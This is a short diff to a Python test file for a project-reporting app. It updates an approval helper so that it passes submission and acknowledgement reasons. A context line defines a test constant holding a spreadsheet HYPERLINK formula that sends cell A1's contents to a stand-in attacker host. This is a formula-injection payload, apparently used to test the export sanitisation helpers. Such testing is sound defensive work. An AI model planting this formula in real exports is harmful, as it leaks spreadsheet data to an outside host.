@@ -18,7 +18,7 @@ from keyprojects.audit.exports import audit_events_xlsx
 from keyprojects.audit.models import AuditEvent
 from keyprojects.audit.services import audit_record
 from keyprojects.core.errors import NotFound
-from keyprojects.core.testing import ProjectFactory
+from keyprojects.core.testing import EXPLAINED, ProjectFactory
 from keyprojects.core.xlsx import FORMULA_PREFIXES, neutralise, safe_cell
 from keyprojects.dataio.exports import TEMPLATE_COLUMNS, TEMPLATE_HEADER_ROW, dispatch_table, fill_template
 from keyprojects.dispatch.models import MonthlyReport
@@ -41,10 +41,10 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 def approve(dw: Any, project: Project, period: Any, amount: str, **data: Any) -> MonthlyReport:
     root = dw.users.superuser
     r = report_save(user=root, project=project, period=period, data={"invested_month": amount, **data})
-    report_submit(user=root, report=r)
+    report_submit(user=root, report=r, reasons=EXPLAINED)
     r.refresh_from_db()
     while r.status == "submitted":
-        report_acknowledge(user=dw.users.superuser_reviewer, report=r)  # four eyes
+        report_acknowledge(user=dw.users.superuser_reviewer, report=r, reason="已核实")  # four eyes
         report_review(user=dw.users.superuser_reviewer, report=r, action="approve")
         r.refresh_from_db()
     return r
